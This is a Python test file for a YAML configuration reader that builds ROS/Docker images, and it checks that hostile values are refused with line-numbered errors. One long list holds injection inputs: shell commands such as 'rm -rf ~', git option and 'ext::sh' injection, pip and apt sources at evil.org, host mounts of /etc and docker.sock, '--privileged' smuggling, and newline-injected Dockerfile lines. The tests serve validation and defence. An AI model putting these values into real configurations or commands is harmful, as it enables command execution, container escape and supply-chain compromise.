"""Values: what wild files write, and what nobody may write."""

import pytest

from roslab.config import Volume, read
from roslab.errors import ConfigurationError


def refused(text: str) -> str:
    with pytest.raises(ConfigurationError) as caught:
        read(text)
    assert all(p.line for p in caught.value.problems)
    return str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        'name: "a; rm -rf ~"',
        "name: $(id)",
        "name: a/../b",
        "name: -rf",
        'name: "a\\n"',
        'name: "a\\nRUN id"',
        'apt: ["git; id"]',
        "apt: [-y]",
        'apt: ["--allow-unauthenticated git"]',
        'apt: ["git\\nRUN id"]',
        "apt: [$(id)]",
        "pip: [--trusted-host=evil.org]",
        "pip: [-r /etc/passwd]",
        "pip: ['a; import os; `id`']",
        "pip: ['https://user:token@github.com/a/b.whl']",
        "pip: ['git+file:///etc']",
        "pip: ['--index-url http://evil.org/simple']",
        "repo: ['deb [trusted=yes] http://evil.org x main']",
        "repo: ['ppa:a/b; id']",
        "repo: ['-y']",
        "source: [{name: a, repo: 'ext::sh -c id'}]",
        "source: [{name: a, repo: 'file:///etc'}]",
        "source: [{name: a, repo: '--upload-pack=id https://h.org/a'}]",
        "source: [{name: a, repo: '-c core.sshCommand=id https://h.org/a'}]",
        "source: [{name: a, repo: 'https://token@github.com/a/b'}]",
        "source: [{name: a, repo: 'https://h.org/a', ref: '--exec=id'}]",
        "source: [{name: a, repo: 'https://h.org/a', ref: 'a..b'}]",
        "source: [{name: a, repo: '-b --exec=id https://h.org/a'}]",
        "source: [{name: ../../etc, repo: 'https://h.org/a'}]",
        "source: [{name: -rf, repo: 'https://h.org/a'}]",
        "source: [{name: a, repo: 'https://h.org/a', cmake_folder: ../../..}]",
        "source: [{name: a, repo: 'https://h.org/a', cmake_folder: /etc}]",
        "source: [{name: a, repo: 'https://h.org/a', cmake_options: \"'\"}]",
        "source: [{name: a, zip: 'file:///etc/x.zip'}]",
        "source: [{name: a, zip: 'https://h.org/a.zip; id'}]",
        "volume: [{host_path: /, container_path: /a}]",
        "volume: [{host_path: //, container_path: /a}]",
        "volume: [{host_path: /etc, container_path: /a}]",
        "volume: [{host_path: //etc, container_path: /a}]",
        "volume: [{host_path: /tmp/../etc, container_path: /a}]",
        "volume: [{host_path: /./etc, container_path: /a}]",
        "volume: [{host_path: ./../a, container_path: /a}]",
        "volume: [{host_path: /var/run/docker.sock, container_path: /a}]",
        "volume: [{host_path: /run/docker.sock, container_path: /a}]",
        "volume: [{host_path: '~', container_path: /a}]",
        "volume: [{host_path: $HOME, container_path: /a}]",
        "volume: [{host_path: '/a\" -v /:/host \"', container_path: /a}]",
        "volume: [{host_path: /$(id), container_path: /a}]",
        "volume: [{host_path: '/a:/b', container_path: /a}]",
        "volume: [{host_path: -v, container_path: /a}]",
        "volume: [{host_path: /a, container_path: a}]",
        "volume: [{host_path: /a, container_path: /a/../../b}]",
        "volume: [{host_path: /a, container_path: /a, options: 'ro --privileged'}]",
        "volume: [{host_path: /a, container_path: /a, options: exec}]",
        "matlab: {host_path: '/a; id'}",
        "matlab: {host_path: /a, mac_address: '--privileged'}",
        "env: {'A B': x}",
        "env: {'A=B': x}",
        'env: {A: "x\\ny"}',
        'env: {"A\\n": x}',
        "ports: ['80; id']",
        "ports: [0]",
        "ports: [65536]",
        "ports: ['256.0.0.1:80:80']",
        "platforms: [linux/evil]",
        "platforms: []",
        "dockerfile: ../Dockerfile",
        "dockerfile: /etc/passwd",
        "dockerfile: '-'",
        "dockerfile: a/../../b",
        "dockerfile: true",
        "dockerfile: 3",
        "context: ..",
        "context: https://h.org/a.git",
        "requirements: [-r]",
        "requirements: [~/a]",
        "conda: C:\\a",
        "vcs: [a\\..\\b]",
        "skip_keys: [--all]",
        "base: {image: 'a b'}",
        "base: {image: --platform=x}",
        "base: {image: UPPER}",
        "base: {ros: 'kinetic; id'}",
        "base: {cuda: 11.8-devel; id}",
        "base: {cmake_update: 3.7}",
        "base: {cmake_update: '../3.7.1'}",
        "base: {python: '3.8; id'}",
        'custom: ["a\\nUSER root"]',
        'command: "a\\nENTRYPOINT x"',
        'command: ["a", "b\\n"]',
        'test: "\\u2028"',
        'test: "a\\u202eb"',
        'test: "cmake\\u00a0.."',
        'custom: ["make\\u200b"]',
        'build_args: ["a\\0"]',
    ],
)
def test_nothing_hostile_reaches_the_model(line: str) -> None:
    told = refused(f"format: 3\n{line}\n")
    assert "no valid YAML" not in told
    assert "unknown key" not in told


@pytest.mark.parametrize(
    ("entry", "lines", "options"),
    [
        ("numpy==1.16.4", ("numpy==1.16.4",), ()),
        ("numpy scipy", ("numpy", "scipy"), ()),
        ("-U matplotlib", ("matplotlib",), ("--upgrade",)),
        ("matplotlib --upgrade --pre", ("matplotlib",), ("--upgrade", "--pre")),
        ("path.py==10.3.1", ("path.py==10.3.1",), ()),
        ("torch[opt,all]>=1.0,<2", ("torch[opt,all]>=1.0,<2",), ()),
        ("numpy >= 1.0, < 2", ("numpy >= 1.0, < 2",), ()),
        ("a; python_version < '3'", ("a; python_version < '3'",), ()),
        ("a @ https://h.org/a.whl", ("a @ https://h.org/a.whl",), ()),
        ("-e git+https://h.org/a.git@v1#egg=a", ("git+https://h.org/a.git@v1#egg=a",), ()),
        ("git+ssh://git@github.com/a/b.git", ("git+ssh://git@github.com/a/b.git",), ()),
        ("-f https://h.org/whl torch", ("torch",), ("--find-links", "https://h.org/whl")),
        ("--index-url=https://h.org/simple a", ("a",), ("--index-url", "https://h.org/simple")),
        ("--no-binary=:all: a", ("a",), ("--no-binary", ":all:")),
    ],
)
def test_entries_of_pip_are_taken_apart(entry: str, lines: tuple[str, ...], options: tuple[str, ...]) -> None:
    config = read(f'pip3:\n  - "{entry}"\n')
    assert (config.pip3, config.pip3_options) == (lines, options)


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("pip: [numpy=1.11]", "write `numpy==1.11`"),
        ("apt: [cmake==3.5]", "write `cmake=3.5`"),
        ("apt: [Foo_Bar]", "write `foo-bar`"),
        ("apt: ['git, curl']", "a line of its own"),
        ("base: {ubuntu: 20.10}", '"20.10" is no Ubuntu release (only long-term releases last'),
        ("base: {ubuntu: noetic}", "write `ubuntu: focal` and `ros: noetic`"),
        ("base: {ubuntu: xenail}", "did you mean `xenial`?"),
        ("base: {ros: kinetc}", "did you mean `kinetic`?"),
        ("base: {ros: humble-dekstop}", "did you mean `humble-desktop`?"),
        ("base: {ubuntu: 16.04, ros: melodic}", "ROS melodic has no packages for Ubuntu xenial"),
        ("base: {opengl: yes}", "allowed: runtime, devel"),
        ("base: {cudnn: 7}", "`cudnn` needs `cuda`"),
        ("build: catkin make", "did you mean `catkin_make`?"),
        ("format: 2", "the old formats have no such line"),
        ("name: 3", 'put it in quotes: "3"'),
        ("name: My Robot", "write `my-robot`"),
        ("pip: [a]\npip2: [b]", "`pip` and `pip2` cannot stand in one file"),
        ("source: [{name: a}]", "needs either `repo` or `zip`"),
        ("source: [{name: a, zip: 'https://h.org/a.zip', ref: x}]", "a zip file has no branches"),
        ("source: [{name: a, repo: 'https://h.org/a', ref: x, checkout: y}]", "`ref` and `checkout` say the same"),
        ("source: [{name: a, repo: 'https://h.org/a'}, {name: a, repo: 'https://h.org/b'}]", "two are named `a`"),
        ("source: [{name: a, repo: 'git@h.org:a/b'}]", "it needs a private key"),
        ("source: [{name: a, repo: '--recursive https://h.org/a'}]", "only `-b BRANCH` is read"),
        ("volume: [{container_path: /a}]", "has no `host_path`"),
        ("custom: {user: jovyan}", "custom has no `commands`"),
        ("command: []", "command is empty, not a command"),
    ],
)
def test_what_to_write_instead_is_said(text: str, hint: str) -> None:
    assert hint in refused(text)


def test_a_page_of_a_website_is_no_repository() -> None:
    url = "https://github.com/robotology/tactile-control/tree/master/tactile-control-lib.git"
    told = refused(f"source:\n  - name: a\n    repo: {url}\n")
    assert told.startswith("roslab.yaml:3:11: ")
    assert "`repo: https://github.com/robotology/tactile-control.git` and `ref: master`" in told
    assert "its folder tactile-control-lib)" in told


@pytest.mark.parametrize(
    ("repo", "url", "ref"),
    [
        ("-b master https://h.org/a.git", "https://h.org/a.git", "master"),
        ("--branch v7.1.1 git://h.org/a.git", "https://h.org/a.git", "v7.1.1"),
        ("https://h.org/a.git --branch=1.0 --depth 1 --single-branch", "https://h.org/a.git", "1.0"),
        ("git@github.com:owner/a.git", "https://github.com/owner/a.git", None),
        ("ssh://git@github.com/owner/a", "https://github.com/owner/a", None),
        ("http://h.org/a", "http://h.org/a", None),
    ],
)
def test_what_wild_files_give_to_git_is_understood_with_a_warning(repo: str, url: str, ref: str | None) -> None:
    config = read(f"source: [{{name: a, repo: '{repo}'}}]")
    assert (config.source[0].repo, config.source[0].ref) == (url, ref)
    assert config.warnings


def test_a_ref_keeps_its_text() -> None:
    config = read(
        "source: [{name: a, repo: 'https://h.org/a', checkout: 1.10}, {name: b, repo: 'https://h.org/a', ref: 1234567}]"
    )
    assert [source.ref for source in config.source] == ["1.10", "1234567"]


@pytest.mark.parametrize("key", ["apt", "pip", "pip3", "custom"])
def test_a_single_text_is_one_entry_never_letters(key: str) -> None:
    config = read(f"{key}: git")
    values = config.custom.commands if key == "custom" and config.custom else getattr(config, key)
    assert values == ("git",)
    assert any("is a list" in message for message, _ in config.warnings)


@pytest.mark.parametrize(
    "key", ["apt", "pip", "pip3", "custom", "source", "volume", "env", "repo", "base", "skip_keys"]
)
@pytest.mark.parametrize("value", ["", "~"])
def test_an_empty_list_says_nothing(key: str, value: str) -> None:
    assert read(f"name: a\n{key}: {value}\n").warnings in {(), read(f"name: a\n{key}:\n").warnings}
    assert read("custom: []").custom is None


def test_several_packages_in_one_entry_and_each_once() -> None:
    config = read('apt:\n  - libvtk6.2 libvtk6-dev \n  - " git"\n  - libvtk6.2\n  - g++\n')
    assert config.apt == ("libvtk6.2", "libvtk6-dev", "git", "g++")


def test_upper_case_names_become_lower_case() -> None:
    config = read("name: SqueezeSegV2")
    assert config.name == "squeezesegv2"
    assert any("lower case" in message for message, _ in config.warnings)


def test_volumes_written_as_one_entry_a_key_are_one() -> None:
    config = read(
        "volume:\n- host_path: /a\n- container_path: /b\n- options: ro,z\n- host_path: ~/c d\n  container_path: /e\n"
    )
    assert config.volume == (
        Volume(host_path="/a", container_path="/b", options="ro,z"),
        Volume(host_path="~/c d", container_path="/e"),
    )


def test_the_flavours_of_cuda_and_cudnn_become_one() -> None:
    config = read("base: {cuda: 10.0-runtime, cudnn: 7-devel}")
    assert config.base.cuda_flavour == "devel"
    assert "devel holds both" in "".join(message for message, _ in config.warnings)
    assert read("base: {cuda: 11.8, cudnn: 8-runtime}").base.cuda_flavour == "runtime"


def test_an_asked_for_image_may_hold_any_ros() -> None:
    assert read("format: 3\nbase: {image: 'my/image:1', ubuntu: 20.04, ros: melodic}").base.ros == "melodic"


def test_a_block_ends_before_its_line_break() -> None:
    assert read("command: |\n  roslaunch a b.launch\n").command == "roslaunch a b.launch"
    assert "one line each" in refused("command: |\n  a\n  b\n")


def test_arguments_may_be_written_as_a_line() -> None:
    assert read("build_args: -j 4 '-DA=b c'").build_args == ("-j", "4", "-DA=b c")
